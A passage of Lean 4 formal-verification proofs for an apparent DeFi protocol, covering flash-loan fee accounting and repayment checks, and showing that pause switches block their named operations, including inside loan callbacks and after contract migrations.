  pays the pending fees out of the loan-reduced balance, `after_trade` requires the balance before the loan plus the
  three fees.  The theorems hold for all loan amounts, vault balances, fee shares, states and nested operations. -/

/-- **inloan_collects_as_outside_the_loan** — a completed transaction `FlashLoan` → the callback sends `inner` →
    repayment leaves EXACTLY the joint state that `inner` alone would have left from the same state — distributor,
    epochs, collector balances, DAO, take-rate history, pairs, routes, bonders: a pipeline run (or a direct collection /
    aggregation) nested in a loan collects, swaps, takes and forwards what the same run does outside the loan — and the
    only difference is the loan's own protocol fee `⌊amount · share⌋`, booked on the lending vault's pending ledger
    AFTER the nested operation -/
theorem inloan_collects_as_outside_the_loan (cfg : Feeflow.Cfg) (s s' : Feeflow.St) (k amount vbal : Nat)
    (mode : Feeflow.Repay) (fees : Feeflow.LoanFees) (inner : Feeflow.Op)
    (h : Feeflow.step cfg s (.inloan k amount mode vbal fees inner) = .ok s') :
    ∃ s1, Feeflow.step cfg s inner = .ok s1 ∧
      s'.d = s1.d ∧ s'.c.bal = s1.c.bal ∧ s'.c.dao = s1.c.dao ∧ s'.c.trh = s1.c.trh ∧ s'.c.pools = s1.c.pools ∧
      s'.c.rate = s1.c.rate ∧ s'.c.active = s1.c.active ∧ s'.c.daoSet = s1.c.daoSet ∧ s'.c.routes = s1.c.routes ∧
      s'.daoBal = s1.daoBal ∧ s'.ub = s1.ub ∧ s'.view = s1.view ∧ s'.rts = s1.rts ∧ s'.xb = s1.xb ∧
      (∀ j, Feeflow.pendOf s' j =
        if j = k ∧ (s1.c.vaults[j]?).isSome = true then Feeflow.pendOf s1 j + Feeflow.loanFee fees.prot amount
        else Feeflow.pendOf s1 j) := by
  obtain ⟨s1, o, hi, _, hs', _⟩ := Feeflow.inloan_ok h
  refine ⟨s1, hi, ?_⟩
  subst hs'
  exact ⟨rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl,
    fun j => Feeflow.pendOf_accrueLoan k _ s1 j⟩

/-- **inloan_vault_ends_with_fees** — the bank side of a completed loan, for every nested operation `inner` (any function
    of the joint state), every amount, balance and fee share: the borrower did NOT repay short; the lending vault ends
    with its balance before the loan + protocol fee + flash-loan fee (+ what a generous borrower paid on top; the burn
    fee is burnt) although it paid `paidOut` — the pending fees that the nested operation collected — to the collector
    in mid-loan: the borrower made up for them, it sent `amount + protocol + flash + burn + paidOut (+ extra)`; and the
    loan-reduced balance covered what was paid out -/
theorem inloan_vault_ends_with_fees (s : Feeflow.St) (k amount vbal : Nat) (mode : Feeflow.Repay)
    (fees : Feeflow.LoanFees) (inner : Feeflow.St → Res Feeflow.St) (o : Feeflow.LoanOut)
    (h : Feeflow.inloanRun s k amount mode vbal fees inner = .ok o) :
    mode ≠ .short ∧ o.paidOut ≤ vbal - amount ∧ amount ≤ vbal ∧
    ∃ extra, (mode = .exact → extra = 0) ∧ (∀ x, mode = .over x → extra = x) ∧
      o.endBal = vbal + Feeflow.loanFee fees.prot amount + Feeflow.loanFee fees.flash amount + extra ∧
      o.repaid = amount + Feeflow.loanFee fees.prot amount + Feeflow.loanFee fees.flash amount +
        Feeflow.loanFee fees.burn amount + o.paidOut + extra := by
  obtain ⟨s1, _, hc, _, ha, hle⟩ := Feeflow.inloanRun_ok h
  obtain ⟨h1, _, h3, _, he, hr, hp⟩ := Feeflow.loanClose_ok hc
  rw [he, hr, hp]
  unfold Feeflow.loanRepaid Feeflow.loanMid Feeflow.loanRequired at *
  obtain ⟨hm, extra, e0, ex, hb, hrep⟩ := Feeflow.repay_arith h1 ha hle h3
  exact ⟨hm, h1, hle, extra, e0, ex, hb, hrep⟩

/-- **inloan_short_repayment_leaves_no_trace** — a borrower that repays one unit less than `after_trade` requires never
    completes the transaction, whatever it nested into the loan (a whole pipeline run included) and whatever the vault
    paid out in mid-loan: the operation fails, and a failed operation leaves the joint state untouched (the history
    skips it) -/
theorem inloan_short_repayment_leaves_no_trace (cfg : Feeflow.Cfg) (s : Feeflow.St) (k amount vbal : Nat)
    (fees : Feeflow.LoanFees) (inner : Feeflow.Op) :
    (∀ s', Feeflow.step cfg s (.inloan k amount .short vbal fees inner) ≠ .ok s') ∧
    Feeflow.reach cfg s [.inloan k amount .short vbal fees inner] = s := by
  have hne : ∀ s', Feeflow.step cfg s (.inloan k amount .short vbal fees inner) ≠ .ok s' := by
    intro s' h
    simp only [Feeflow.step] at h
    cases hr : Feeflow.inloanRun s k amount .short vbal fees (fun s0 => Feeflow.step cfg s0 inner) with
    | err => rw [hr] at h; cases h
    | panic => rw [hr] at h; cases h
    | ok o => exact (inloan_vault_ends_with_fees s k amount vbal .short fees _ o hr).1 rfl
  refine ⟨hne, ?_⟩
  cases hs : Feeflow.step cfg s (.inloan k amount .short vbal fees inner) with
  | ok s' => exact absurd hs (hne s')
  | err => simp only [Feeflow.reach, hs]
  | panic => simp only [Feeflow.reach, hs]

/-- **inloan_fees_must_be_covered** — `collect_protocol_fees` does not look at the loan counter: the pending fees that the
    nested operation takes off the lending vault's ledger are a bank send out of the LOAN-REDUCED balance; when that
    balance does not cover them the whole transaction fails (nothing is zeroed without being transferred) -/
theorem inloan_fees_must_be_covered (cfg : Feeflow.Cfg) (s s1 : Feeflow.St) (k amount vbal : Nat) (mode : Feeflow.Repay)
    (fees : Feeflow.LoanFees) (inner : Feeflow.Op) (hi : Feeflow.step cfg s inner = .ok s1)
    (hlt : vbal - amount < Feeflow.pendOf s k - Feeflow.pendOf s1 k) :
    ∀ s', Feeflow.step cfg s (.inloan k amount mode vbal fees inner) ≠ .ok s' := by
  intro s' h
  obtain ⟨s1', o, hi', hc, _⟩ := Feeflow.inloan_ok h
  rw [hi] at hi'
  injection hi' with hi'; subst hi'
  obtain ⟨h1, _⟩ := Feeflow.loanClose_ok hc
  unfold Feeflow.loanPaidOut at h1
  omega

/-- **newepoch_in_loan_is_the_plain_pipeline** — `NewEpoch` sent from inside the callback of a flash loan on vault `k`
    (at most 30 vaults: one factory page), completed: the epoch, the distributor's balances, the DAO's cut, the
    collector's balances and the pairs' ledgers are those of the SAME `NewEpoch` sent outside any loan (`epoch_total_eq`,
    `pipeline_conservation`, `take_exact` apply to it verbatim); every vault's pending fees — the LENDING vault's
    included, although its loan is still in flight — were collected in full, so after the transaction every other vault
    has nothing pending and the lending vault exactly the fee of the loan in flight; the vault paid its whole pending
    ledger out in mid-loan (the loan-reduced balance covered it) and ends with balance before + protocol fee +
    flash-loan fee (+ extra), the borrower having sent loan + fees + the collected amount (+ extra) -/
theorem newepoch_in_loan_is_the_plain_pipeline (cfg : Feeflow.Cfg) (s : Feeflow.St) (k amount vbal now : Nat)
    (mode : Feeflow.Repay) (fees : Feeflow.LoanFees) (router : Nat → Nat → Nat → Nat) (acc : Nat → Nat → Nat)
    (o : Feeflow.LoanOut) (hv : s.c.vaults.length ≤ 30)
    (h : Feeflow.inloanRun s k amount mode vbal fees (fun s0 => Feeflow.step cfg s0 (.newEpoch now router acc)) = .ok o) :
    ∃ s1 out, Feeflow.newEpoch cfg s now router acc = .ok (s1, out) ∧
      o.st.d = s1.d ∧ o.st.c.bal = s1.c.bal ∧ o.st.daoBal = s1.daoBal ∧ o.st.c.pools = s1.c.pools ∧
      o.st.c.trh = s1.c.trh ∧ o.st.ub = s1.ub ∧
      (∀ j, Feeflow.pendOf s1 j = 0) ∧
      (∀ j, j ≠ k → Feeflow.pendOf o.st j = 0) ∧
      Feeflow.pendOf o.st k = Feeflow.loanFee fees.prot amount ∧
      o.paidOut = Feeflow.pendOf s k ∧ Feeflow.pendOf s k ≤ vbal - amount ∧
      ∃ extra, o.endBal = vbal + Feeflow.loanFee fees.prot amount + Feeflow.loanFee fees.flash amount + extra ∧
        o.repaid = amount + Feeflow.loanFee fees.prot amount + Feeflow.loanFee fees.flash amount +
          Feeflow.loanFee fees.burn amount + Feeflow.pendOf s k + extra := by
  obtain ⟨_, hcov, _, extra, _, _, hend, hrep⟩ := inloan_vault_ends_with_fees s k amount vbal mode fees _ o h
  obtain ⟨s1, hi, hc, hk, _, _⟩ := Feeflow.inloanRun_ok h
  obtain ⟨_, _, _, hst, _, _, hp⟩ := Feeflow.loanClose_ok hc
  simp only [Feeflow.step] at hi
  cases hn : Feeflow.newEpoch cfg s now router acc with
  | err => rw [hn] at hi; cases hi
  | panic => rw [hn] at hi; cases hi
  | ok pr =>
    obtain ⟨s1', out⟩ := pr
    rw [hn] at hi; simp only at hi
    injection hi with hi; subst hi
    obtain ⟨_, _, _, _, _, _, _, _, hc', _, hf⟩ := epoch_total_eq cfg s s1' now router acc out hn
    have hvs : s1'.c.vaults = s.c.vaults.map (fun v => { v with pend := 0 }) := by
      rw [hc', (pending_after _ _ _ _ _ _ out hf).1]
      exact vaultsAfter_all _ (vaultListed_of_length_le (n := vaultPage FWD_LIMIT)
        (by rw [page_limits_documented.2.2.1]; exact hv))
    have hz : ∀ j, Feeflow.pendOf s1' j = 0 := by
      intro j
      unfold Feeflow.pendOf
      rw [hvs, List.getElem?_map]
      cases s.c.vaults[j]? with
      | none => rfl
      | some v => rfl
    have hsome : (s1'.c.vaults[k]?).isSome = true := by
      rw [hvs, List.getElem?_map]
      cases hq : s.c.vaults[k]? with
      | none => rw [hq] at hk; cases hk
      | some v => rfl
    have hpo : o.paidOut = Feeflow.pendOf s k := by
      rw [hp]; unfold Feeflow.loanPaidOut; rw [hz k]; rfl
    refine ⟨s1', out, rfl, ?_, ?_, ?_, ?_, ?_, ?_, hz, fun j hj => ?_, ?_, hpo, ?_, extra, hend, ?_⟩
    · rw [hst]; rfl
    · rw [hst]; rfl
    · rw [hst]; rfl
    · rw [hst]; rfl
    · rw [hst]; rfl
    · rw [hst]; rfl
    · rw [hst, Feeflow.pendOf_accrueLoan, if_neg (fun hh => hj hh.1)]; exact hz j
    · rw [hst, Feeflow.pendOf_accrueLoan, if_pos ⟨rfl, hsome⟩, hz k]; omega
    · rw [← hpo]; exact hcov
    · rw [hrep, hpo]

/-- the model on concrete numbers (`jst`: the uwhale vault 0 has 7 pending, the uusdc vault 1 has 2500; both charge 1 %
    protocol and 0.1 % flash-loan fee).  A loan of 400 000 on vault 1 (balance 1 000 000) whose borrower sends
    `CollectFees` for the vault factory: the collector receives the 7 + 2500 as outside a loan, vault 1 ends with
    1 000 000 + 4000 + 400 = 1 004 400 and 4000 pending, the borrower sent 400 000 + 4400 + 2500 = 406 900; one unit
    short and nothing happens; a loan that leaves less than the 2500 in the vault cannot be completed -/
def f1 : Feeflow.LoanFees := { prot := 10000000000000000, flash := 1000000000000000, burn := 0 }
example : ((Feeflow.inloanRun jst 1 400000 .exact 1000000 f1 (fun s0 => Feeflow.step jcfg s0 (.collect 1003 (.vaultFactory (some 30))))).toOption.map
    fun o => (o.st.c.bal 1, o.st.c.bal 2, o.st.c.vaults.map (·.pend), o.endBal, o.repaid, o.paidOut)) =
    some (2500, 47, [0, 4000], 1004400, 406900, 2500) := by decide
example : (Feeflow.step jcfg jst (.inloan 1 400000 .short 1000000 f1 (.collect 1003 (.vaultFactory (some 30))))).isOk = false ∧
    (Feeflow.step jcfg jst (.inloan 1 997501 .exact 1000000 f1 (.collect 1003 (.vaultFactory (some 30))))).isOk = false ∧
    (Feeflow.step jcfg jst (.inloan 1 997500 .exact 1000000 f1 (.collect 1003 (.vaultFactory (some 30))))).isOk = true ∧
    (Feeflow.step jcfg jst (.inloan 1 997501 .exact 1000000 f1 (.aggregate 1003 (.vaultFactory (some 30)) r0 a0))).isOk = true := by decide
/-- `NewEpoch` (now = 1000 = genesis) from inside a loan of 5000 on the uwhale vault 0 (balance 90 000), repaid with 11 on
    top: the distributor / DAO / collector balances and the epoch are those of the plain `NewEpoch` (`out0`: 3104 / 344),
    vault 0 has only the loan's fee pending, vault 1 nothing, vault 0 ends with 90 000 + 50 + 5 + 11 -/
def jstR : Feeflow.St := { jst with rts := fun ask offer => if ask = 2 ∧ offer = 1 then [(1, 2)] else [] }
def loanOut0 : Option Feeflow.LoanOut :=
  (Feeflow.inloanRun jstR 0 5000 (.over 11) 90000 f1
    (fun s0 => Feeflow.step jcfg s0 (.newEpoch 1000 (fun _ _ _ => 2400) (fun _ _ => 0)))).toOption
example : (loanOut0.map fun o => (o.st.d.bal 2, o.st.daoBal 2, o.st.c.bal 2)) = some (3104, 344, 0) := by decide
example : (loanOut0.map fun o => o.st.d.epochs.map (·.total)) = some [[(2, 3104)]] := by decide
example : (loanOut0.map fun o => (o.st.c.vaults.map (·.pend), o.endBal, o.repaid, o.paidOut)) =
    some ([50, 0], 90066, 5073, 7) := by decide

end WW.C10
