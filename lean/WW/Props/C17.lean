/-
  C17 — Pause switches stop exactly the operation they name.
  Property theorems only.  Model: `WW/Model/Toggles.lean` (switch state of a pool / vault, every entry
  path, the switch each handler reads — transcribed from the code).  The effect of an operation that is
  let through is a parameter `base : Path → Res Unit`; it is tied to the real contracts (together with
  the gate table) by the exhaustive `toggles` matrix engine.

  "Every way of invoking" includes invoking a vault operation from INSIDE a flash-loan callback of the
  same vault (the vault's loan counter is non-zero at that moment): `stepInLoan` / `Op.inLoan`, theorems
  `disabled_rejected_in_callback`, `inloan_*`.

  Histories include MIGRATIONS (`Op.migrate`: the contract's `migrate` entry point called by its wasm admin,
  refused or accepted, from any stored version): `Reachable` quantifies over them like over every other
  operation, so every theorem below holds after any number of migrations; `migrate_*`,
  `paused_until_reenabled`, `disabled_rejected_after_migrations`, `migrations_are_invisible` say it outright.
-/
import WW.Proofs.Toggles
namespace WW.C17
open WW WW.Toggles

/-- States that exist in the default build: created by `instantiate` (cw20 LP) and then driven by any
    history of switch updates (by the owner or by anybody else) and calls. -/
def Reachable (base : Path → Res Unit) (s : St) : Prop :=
  ∃ s₀ ops, instantiate false = .ok s₀ ∧ s = reach base s₀ ops

theorem reachable_lpCw20 {base : Path → Res Unit} {s : St} (h : Reachable base s) : s.lpCw20 = true := by
  obtain ⟨s₀, ops, h0, rfl⟩ := h
  rw [reach_lpCw20]
  simp only [instantiate] at h0
  cases h0
  rfl

/-- between transactions no loan is running -/
theorem reachable_loans {base : Path → Res Unit} {s : St} (h : Reachable base s) : s.loans = 0 := by
  obtain ⟨s₀, ops, h0, rfl⟩ := h
  rw [reach_loans]
  simp only [instantiate] at h0
  cases h0
  rfl

/-- **disabled ⇒ rejected, at any value of the loan counter** — in particular inside a flash-loan
    callback (`n > 0`), where the message comes from the borrower. -/
theorem disabled_rejected_in_callback (base : Path → Res Unit) (s : St) (hs : Reachable base s) (n : Nat)
    (p : Path) (sw : Switch) (hn : p.names = some sw) (hoff : s.flags.get sw = false) :
    stepPath base { s with loans := n } p = .err := by
  have hlp := reachable_lpCw20 hs
  cases hc : p.consults with
  | some sw' =>
    have := consults_sub_names p sw' hc
    rw [hn] at this
    cases this
    simp [stepPath, gate_of_consults hc, hoff]
  | none =>
    rcases names_not_consulted p sw hn hc with rfl | rfl | rfl | rfl | rfl <;>
      simp [stepPath, gate, Path.consults, entryRejects, hlp]

/-- **disabled ⇒ rejected.** When the switch an entry path names is off, the call is rejected, whatever
    the other switches are and whatever the operation would otherwise do — for every entry path
    (direct message, cw20 hook, router hop, frontend helper, vault router) of every pool and vault that
    can exist in the default build. -/
theorem disabled_rejected (base : Path → Res Unit) (s : St) (hs : Reachable base s)
    (p : Path) (sw : Switch) (hn : p.names = some sw) (hoff : s.flags.get sw = false) :
    stepPath base s p = .err :=
  disabled_rejected_in_callback base s hs s.loans p sw hn hoff

/-- … and a rejected call moves nothing: the switch state after the failed operation is the state
    before it (balances and the rest of the storage are outside this model; the matrix engine compares
    full snapshots). -/
theorem disabled_unchanged (base : Path → Res Unit) (s : St) (hs : Reachable base s)
    (p : Path) (sw : Switch) (hn : p.names = some sw) (hoff : s.flags.get sw = false) :
    step base s (.call p) = .err ∧ reach base s [.call p] = s := by
  have h := disabled_rejected base s hs p sw hn hoff
  have : step base s (.call p) = .err := by simp [step, h]
  exact ⟨this, by simp [reach, this]⟩

/-- **frame.** The outcome of a call does not depend on the switches its operation does not name:
    two states that agree on the named switch (and on everything that is not a switch) give the same
    result.  For a path no switch names (fee collection) the outcome is independent of all three. -/
theorem others_unaffected (base : Path → Res Unit) (s : St) (f' : Flags) (p : Path)
    (hsame : ∀ sw, p.names = some sw → f'.get sw = s.flags.get sw) :
    stepPath base { s with flags := f' } p = stepPath base s p := by
  cases hc : p.consults with
  | some sw =>
    have hn := consults_sub_names p sw hc
    simp [stepPath, gate_of_consults hc, hsame sw hn]
  | none => simp [stepPath, gate_of_not_consults hc]

/-- the frame statement for a single flipped switch -/
theorem flip_other_switch (base : Path → Res Unit) (s : St) (p : Path) (sw : Switch) (v : Bool)
    (hother : p.names ≠ some sw) :
    stepPath base { s with flags := s.flags.set sw v } p = stepPath base s p := by
  apply others_unaffected
  intro sw' hn
  have : sw ≠ sw' := fun h => hother (h ▸ hn)
  exact get_set_other s.flags sw sw' v this

/-- an enabled operation does exactly what it does when nothing was ever paused (unless its entry
    point rejects it regardless of the switches), outside a flash-loan callback -/
theorem enabled_runs_underlying (base : Path → Res Unit) (s : St) (p : Path)
    (hon : ∀ sw, p.names = some sw → s.flags.get sw = true) (hentry : entryRejects s.lpCw20 p = false)
    (hloan : s.loans = 0) :
    stepPath base s p = base p := by
  have hl : loanRejects s.loans p = false := by rw [hloan]; cases p <;> rfl
  cases hc : p.consults with
  | some sw =>
    have hn := consults_sub_names p sw hc
    simp [stepPath, gate_of_consults hc, hon sw hn, hentry, hl]
  | none => simp [stepPath, gate_of_not_consults hc, hentry, hl]

/-- **re-enabling restores.** After any history of switch updates and calls, writing the original
    switch values back yields exactly the original state — hence every later call behaves as before. -/
theorem reenable_restores (base : Path → Res Unit) (s : St) (ops : List Op) :
    reach base s (ops ++ [.setFlags true s.flags]) = s := by
  have key : ∀ (ops : List Op) (t : St), t.lpCw20 = s.lpCw20 → t.loans = s.loans →
      reach base t (ops ++ [.setFlags true s.flags]) = s := by
    intro ops
    induction ops with
    | nil =>
      intro t ht hl
      cases s; cases t
      simp_all [reach, step]
    | cons op ops ih =>
      intro t ht hl
      simp only [List.cons_append, reach]
      split
      · next t' h =>
        exact ih t' (by rw [step_lpCw20 base t t' op h, ht]) (by rw [step_loans base t t' op h, hl])
      · exact ih t ht hl
  exact key ops s rfl rfl

/-- consequence: pause, then un-pause ⇒ every path gives the result it gave before the pause -/
theorem reenable_same_results (base : Path → Res Unit) (s : St) (f : Flags) (p : Path) :
    stepPath base (reach base s [.setFlags true f, .setFlags true s.flags]) p = stepPath base s p := by
  have := reenable_restores base s [.setFlags true f]
  simp only [List.cons_append, List.nil_append] at this
  rw [this]

/-- **new pools and vaults start with everything enabled**: `instantiate` sets all three switches,
    so every path passes its gate. -/
theorem initial_all_enabled (tf : Bool) (s : St) (h : instantiate tf = .ok s) :
    s.flags = Flags.allOn ∧ ∀ p, gate p s.flags = true := by
  simp only [instantiate] at h
  split at h
  · cases h
  · cases h
    refine ⟨rfl, ?_⟩
    intro p
    cases p <;> rfl

/-- only the owner's update writes the switches -/
theorem stranger_cannot_switch (base : Path → Res Unit) (s : St) (f : Flags) :
    step base s (.setFlags false f) = .err := rfl

/-! ### inside a flash-loan callback -/

/-- the switches named by a loan transaction with an inner message: the loan's and the inner one's -/
def inLoanNames (outer inner : Path) (sw : Switch) : Prop :=
  outer.names = some sw ∨ inner.names = some sw

/-- a reachable state is reachable under any other choice of the un-modelled outcomes (the switches are
    written by `setFlags` alone) -/
theorem reachable_any_base {base base' : Path → Res Unit} {s : St} (hs : Reachable base s) :
    Reachable base' s := by
  obtain ⟨s₀, ops, h0, rfl⟩ := hs
  refine ⟨s₀, [.setFlags true (reach base s₀ ops).flags], h0, ?_⟩
  have hl := reach_lpCw20 base ops s₀
  have hn := reach_loans base ops s₀
  simp only [reach, step]
  cases hr : reach base s₀ ops with
  | mk f l n =>
    rw [hr] at hl hn
    simp only at hl hn
    subst hl; subst hn
    rfl

/-- **the loan itself is paused ⇒ nothing happens**: the transaction is rejected and no inner message is
    ever sent. -/
theorem inloan_outer_disabled (base : Path → Res Unit) (s : St) (hs : Reachable base s)
    (outer inner : Path) (m : Mode) (lb : LoanBase) (sw : Switch) (hn : outer.names = some sw)
    (hoff : s.flags.get sw = false) :
    stepInLoan s outer inner m lb = ⟨.err, none⟩ :=
  stepInLoan_outer_err s outer inner m lb
    (Or.inr (disabled_rejected (fun _ => .ok ()) s (reachable_any_base hs) outer sw hn hoff))

/-- **the inner operation is paused, plain message**: the inner message is rejected inside the callback
    exactly as it is outside, its error fails the whole loan, and the state after the failed transaction
    is the state before it. -/
theorem inloan_inner_disabled_propagate (base : Path → Res Unit) (s : St) (hs : Reachable base s)
    (outer inner : Path) (lb : LoanBase) (sw : Switch) (hn : inner.names = some sw)
    (hoff : s.flags.get sw = false) :
    stepInLoan s outer inner .propagate lb = ⟨.err, none⟩ ∧
    step base s (.inLoan outer inner .propagate lb) = .err ∧
    reach base s [.inLoan outer inner .propagate lb] = s := by
  have hin := disabled_rejected_in_callback (fun _ => lb.inner) s (reachable_any_base hs)
    (s.loans + 1) inner sw hn hoff
  have h1 := stepInLoan_inner_err_propagate s outer inner lb hin
  refine ⟨h1, ?_, ?_⟩
  · simp [step, h1]
  · simp [reach, step, h1]

/-- **the inner operation is paused, caught sub-message**: the borrower never records a success, and
    the transaction is the loan around a message that fails — its result does not depend on what the
    inner operation would have done (`lb.inner`, `lb.done`): nothing moved on its account. -/
theorem inloan_inner_disabled_catch (base : Path → Res Unit) (s : St) (hs : Reachable base s)
    (outer inner : Path) (lb lb' : LoanBase) (hc : lb'.caught = lb.caught) (sw : Switch)
    (hn : inner.names = some sw) (hoff : s.flags.get sw = false) :
    (stepInLoan s outer inner .catch lb).inner ≠ some true ∧
    stepInLoan s outer inner .catch lb' = stepInLoan s outer inner .catch lb := by
  have hin := fun b => disabled_rejected_in_callback (fun _ => b) s (reachable_any_base hs)
    (s.loans + 1) inner sw hn hoff
  refine ⟨?_, stepInLoan_inner_err_catch_eq s outer inner lb lb' hc (hin _) (hin _)⟩
  rcases stepInLoan_inner_err_catch s outer inner lb (hin _) with h | h <;> rw [h]
  · simp
  · exact finishLoan_false_inner _ _

/-- **frame, inside a callback.** A loan transaction with an inner message depends on the switches only
    through the one the loan names and the one the inner operation names. -/
theorem inloan_others_unaffected (s : St) (f' : Flags) (outer inner : Path) (m : Mode) (lb : LoanBase)
    (hsame : ∀ sw, inLoanNames outer inner sw → f'.get sw = s.flags.get sw) :
    stepInLoan { s with flags := f' } outer inner m lb = stepInLoan s outer inner m lb := by
  have ho := others_unaffected (fun _ => .ok ()) s f' outer (fun sw h => hsame sw (Or.inl h))
  have hi := others_unaffected (fun _ => lb.inner) { s with loans := s.loans + 1 } f' inner
    (fun sw h => hsame sw (Or.inr h))
  unfold stepInLoan
  rw [ho]
  simp only at hi ⊢
  rw [hi]

/-- **transcribed from `deposit.rs` / `flash_loan.rs`:** whatever the switches say, a deposit into the
    lending vault and a second loan from it (direct or through the vault router) never succeed from
    inside a callback: paused ⇒ `…Disabled`, enabled ⇒ `DepositDuringLoan` / `Unauthorized`. -/
theorem inloan_deposit_or_loan_never_succeeds (s : St) (outer inner : Path) (m : Mode) (lb : LoanBase)
    (hin : inner = .vaultDeposit ∨ inner = .vaultFlashLoan ∨ inner = .vaultRouterLoan) :
    (stepInLoan s outer inner m lb).inner ≠ some true ∧
    (m = .propagate → (stepInLoan s outer inner m lb).tx = .err) := by
  have hrej : stepPath (fun _ => lb.inner) { s with loans := s.loans + 1 } inner = .err := by
    rcases hin with rfl | rfl | rfl <;>
      exact (stepPath_err_any_base _ (fun _ => .ok ()) _ _ (Or.inr (Or.inr (by simp [loanRejects])))).1
  cases m with
  | propagate =>
    rw [stepInLoan_inner_err_propagate s outer inner lb hrej]
    exact ⟨by simp, fun _ => rfl⟩
  | «catch» =>
    refine ⟨?_, fun h => by cases h⟩
    rcases stepInLoan_inner_err_catch s outer inner lb hrej with h | h <;> rw [h]
    · simp
    · exact finishLoan_false_inner _ _

/-- a withdrawal (cw20 hook) and fee collection are NOT stopped by a running loan: with their switch on
    they do inside the callback what the code does there (`lb.inner`) -/
theorem inloan_withdraw_collect_pass (s : St) (outer inner : Path) (lb : LoanBase)
    (hout : stepPath (fun _ => .ok ()) s outer = .ok ()) (hl : outer.isLoan = true)
    (hin : (inner = .vaultWithdrawHook ∧ s.flags.b = true) ∨ inner = .vaultCollectFees)
    (hok : lb.inner = .ok ()) :
    stepInLoan s outer inner .catch lb = finishLoan lb.done .catch true := by
  have hpass : stepPath (fun _ => lb.inner) { s with loans := s.loans + 1 } inner = .ok () := by
    rcases hin with ⟨rfl, hb⟩ | rfl <;>
      simp [stepPath, gate, Path.consults, Flags.get, entryRejects, loanRejects, *]
  unfold stepInLoan
  simp only [hl, hout, hpass]
  simp

/-- a loan transaction never leaves the counter raised and never writes a switch -/
theorem inloan_state_unchanged (base : Path → Res Unit) (s s' : St) (outer inner : Path) (m : Mode)
    (lb : LoanBase) (h : step base s (.inLoan outer inner m lb) = .ok s') : s' = s := by
  simp only [step] at h
  split at h
  · cases h; rfl
  · cases h
  · cases h

/-! ### migrations -/

/-- **a migration changes no switch** (and nothing else of the modelled state): accepted — the state after
    it is the state before it, whoever the admin is migrating from whichever version and whatever the
    version-specific storage migration does. -/
theorem migrate_leaves_switches (base : Path → Res Unit) (s s' : St) (a : Bool) (st cr : Ver) (body : Res Unit)
    (h : step base s (.migrate a st cr body) = .ok s') : s' = s :=
  step_migrate_state base s s' a st cr body h

/-- … refused or accepted: the history goes on from the same state -/
theorem migrate_never_changes_state (base : Path → Res Unit) (s : St) (a : Bool) (st cr : Ver) (body : Res Unit) :
    reach base s [.migrate a st cr body] = s :=
  reach_not_ownerWrite base _ s (by intro op h; simp at h; subst h; rfl)

/-- **refused unless the stored version is lower** (and unless the wasm admin sends it) -/
theorem migrate_refused_not_lower (base : Path → Res Unit) (s : St) (a : Bool) (st cr : Ver) (body : Res Unit)
    (h : a = false ∨ st.lt cr = false) :
    step base s (.migrate a st cr body) = .err := by
  rcases h with h | h
  · simp [step, migrateRes, h]
  · by_cases ha : a = false <;> simp [step, migrateRes, ha, h]

/-- an accepted migration is exactly: admin, lower stored version, storage migration went through -/
theorem migrate_accepted_iff (base : Path → Res Unit) (s : St) (a : Bool) (st cr : Ver) (body : Res Unit) :
    step base s (.migrate a st cr body) = .ok s ↔ (a = true ∧ st.lt cr = true ∧ body = .ok ()) := by
  constructor
  · intro h
    by_cases ha : a = false
    · simp [step, migrateRes, ha] at h
    · by_cases hl : st.lt cr = false
      · simp [step, migrateRes, ha, hl] at h
      · cases body <;> simp_all [step, migrateRes]
  · rintro ⟨ha, hl, hb⟩
    simp [step, migrateRes, ha, hl, hb]

/-- the vault's `migrate` saves `LOAN_COUNTER = 0` before anything else: on a state between transactions
    that is the identity (so `Op.migrate` need not mention the counter) -/
theorem migrate_counter_reset_is_noop {base : Path → Res Unit} {s : St} (hs : Reachable base s) :
    { s with loans := 0 } = s := by
  have := reachable_loans hs
  cases s
  simp_all

/-- a state reached from a reachable state is reachable -/
theorem reachable_reach {base : Path → Res Unit} {s : St} (hs : Reachable base s) (ops : List Op) :
    Reachable base (reach base s ops) := by
  obtain ⟨s₀, ops₀, h0, rfl⟩ := hs
  refine ⟨s₀, ops₀ ++ ops, h0, ?_⟩
  have key : ∀ (l : List Op) (t : St), reach base t (l ++ ops) = reach base (reach base t l) ops := by
    intro l
    induction l with
    | nil => intro t; rfl
    | cons op l ih =>
      intro t
      simp only [List.cons_append, reach]
      split <;> exact ih _
  exact (key ops₀ s₀).symm

/-- **only the owner's switch-carrying `UpdateConfig` moves a switch**: any history of migrations (refused
    or accepted), calls, loans with inner messages, `UpdateConfig`s that name no switch and `UpdateConfig`s
    of strangers leaves the state exactly as it was. -/
theorem switches_change_only_by_owner_write (base : Path → Res Unit) (s : St) (ops : List Op)
    (hw : ∀ op ∈ ops, op.ownerWrite = false) : reach base s ops = s :=
  reach_not_ownerWrite base ops s hw

/-- **a disabled operation stays rejected until the operator re-enables it**: switch off in a reachable
    state, then ANY history without an owner's switch write — any number of migrations from any versions
    included — and every entry path naming the switch is still rejected, at any value of the loan counter
    (outside and inside a flash-loan callback). -/
theorem paused_until_reenabled (base : Path → Res Unit) (s : St) (hs : Reachable base s)
    (p : Path) (sw : Switch) (hn : p.names = some sw) (hoff : s.flags.get sw = false)
    (ops : List Op) (hw : ∀ op ∈ ops, op.ownerWrite = false) (n : Nat) :
    stepPath base { reach base s ops with loans := n } p = .err := by
  rw [reach_not_ownerWrite base ops s hw]
  exact disabled_rejected_in_callback base s hs n p sw hn hoff

/-- the special case asked for by name: after any number of migrations a disabled switch still blocks its
    operation on every path -/
theorem disabled_rejected_after_migrations (base : Path → Res Unit) (s : St) (hs : Reachable base s)
    (p : Path) (sw : Switch) (hn : p.names = some sw) (hoff : s.flags.get sw = false)
    (ms : List Op) (hm : ∀ op ∈ ms, op.isMigrate = true) :
    reach base s ms = s ∧ stepPath base (reach base s ms) p = .err ∧
      ∀ n, stepPath base { reach base s ms with loans := n } p = .err := by
  have hw : ∀ op ∈ ms, op.ownerWrite = false := fun op h => isMigrate_not_ownerWrite op (hm op h)
  have hr := reach_not_ownerWrite base ms s hw
  refine ⟨hr, ?_, paused_until_reenabled base s hs p sw hn hoff ms hw⟩
  rw [hr]
  exact disabled_rejected base s hs p sw hn hoff

/-- **migrations are invisible**: strike every migration out of a history (wherever it stood: before the
    first config write, between a partial write and the next, between operations) — the state reached, and
    with it the verdict on every later call and loan, is the same. -/
theorem migrations_are_invisible (base : Path → Res Unit) (s : St) (ops : List Op) :
    reach base s (ops.filter (fun op => !op.isMigrate)) = reach base s ops :=
